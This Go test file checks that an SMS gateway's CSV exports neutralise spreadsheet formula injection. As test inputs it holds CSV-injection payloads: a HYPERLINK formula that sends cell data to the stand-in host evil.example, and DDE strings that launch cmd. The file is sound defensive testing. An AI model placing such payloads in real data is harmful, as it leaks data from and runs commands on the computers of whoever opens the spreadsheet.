package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	switchboard "github.com/switchboard-gw/switchboard"
	"github.com/switchboard-gw/switchboard/internal/sqlite"
)

func TestSafeCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example","x")`: `'=HYPERLINK("http://evil.example","x")`,
		"+cmd|' /C calc'!A0":                    "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":                "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0":           "'@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1":                                "'\t=1+1",
		"\r=1+1":                                "'\r=1+1",
		"+14155550100":                          "+14155550100",
		"-5":                                    "-5",
		"-1.5":                                  "-1.5",
		"+":                                     "'+",
		"-":                                     "'-",
		"1+1":                                   "1+1",
		"web form":                              "web form",
		"":                                      "",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportsNeutraliseFormulas: consent evidence, templates and actors an attacker could shape
// (an import row, an API key's name, a keyword) come out of both CSV exports as text a
// spreadsheet will not run; JSON Lines keeps them as they are.
func TestExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	st, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "sb.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	if err := st.RecordConsent(ctx, &switchboard.ConsentRecord{Phone: "+14155550100", Scope: switchboard.ScopeAll,
		State: switchboard.ConsentOptedIn, Source: switchboard.ConsentFromImport, Evidence: evil, Actor: "@api:crm", At: t0}); err != nil {
		t.Fatal(err)
	}
	at := t0.Add(time.Hour)
	m := &switchboard.Message{ID: switchboard.NewID("msg"), Status: switchboard.StatusQueued, Channel: switchboard.ChannelSMS,
		Category: switchboard.CategoryMarketing, To: "+14155550100", From: "+15005550006", Pool: "default", Body: "offer",
		Template: "-2+3+cmd", TemplateVersion: 1, Segments: 1, Encoding: switchboard.EncodingGSM7, NextAttemptAt: at, CreatedAt: at, UpdatedAt: at}
	if _, _, err := st.CreateMessage(ctx, m, nil); err != nil {
		t.Fatal(err)
	}
	var msgs, cons, jl bytes.Buffer
	if _, err := Messages(ctx, st, &msgs, time.Time{}, time.Time{}, CSV); err != nil {
		t.Fatal(err)
	}
	if _, err := Consent(ctx, st, &cons, time.Time{}, time.Time{}, CSV); err != nil {
		t.Fatal(err)
	}
	for name, buf := range map[string]*bytes.Buffer{"messages": &msgs, "consent": &cons} {
		rows, err := csv.NewReader(buf).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s: %v %v", name, rows, err)
		}
		for _, cell := range rows[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "+14155550100" && cell != "+15005550006" {
				t.Errorf("%s: cell %q would run as a formula", name, cell)
			}
		}
		if !strings.Contains(strings.Join(rows[1], ","), "'"+evil) {
			t.Errorf("%s: evidence not exported as text: %v", name, rows[1])
		}
	}
	if _, err := Consent(ctx, st, &jl, time.Time{}, time.Time{}, JSONL); err != nil || !strings.Contains(jl.String(), `"evidence":"=HYPERLINK`) {
		t.Fatalf("jsonl: %v %s", err, jl.String())
	}
}
